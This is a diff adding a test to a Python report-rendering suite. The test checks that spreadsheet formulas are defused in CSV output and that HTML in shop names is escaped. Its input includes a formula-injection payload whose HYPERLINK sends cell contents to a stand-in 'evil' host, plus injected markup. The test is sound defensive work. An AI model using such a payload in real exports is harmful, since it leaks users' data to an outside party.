@@ -87,3 +87,14 @@ def test_the_csv_has_one_row_per_mention_in_the_tenants_zone(store):
     lines = render.mentions_csv(rows, report).splitlines()
     assert len(lines) == 1 + report.mentions
     assert "+01:00" in lines[1]  # Madrid in November
+
+
+def test_a_strangers_words_never_run_as_a_formula_nor_as_markup(store):
+    from escucha.report.render import inert
+
+    assert inert('=HYPERLINK("http://evil/?"&A1,"click")').startswith("'=")
+    assert inert("@SUM(A1)") == "'@SUM(A1)" and inert("hola") == "hola"
+    shop = SHOP.model_copy(update={"name": "<b>Sol</b>", "competitors": ['<link href="x">']})
+    page = render.html(build_report(store.engine, shop, period("2026-11", SHOP.zone), NOW))
+    assert "<b>Sol</b>" not in page and "&lt;b&gt;Sol&lt;/b&gt;" in page
+    assert '<link href="x">' not in page
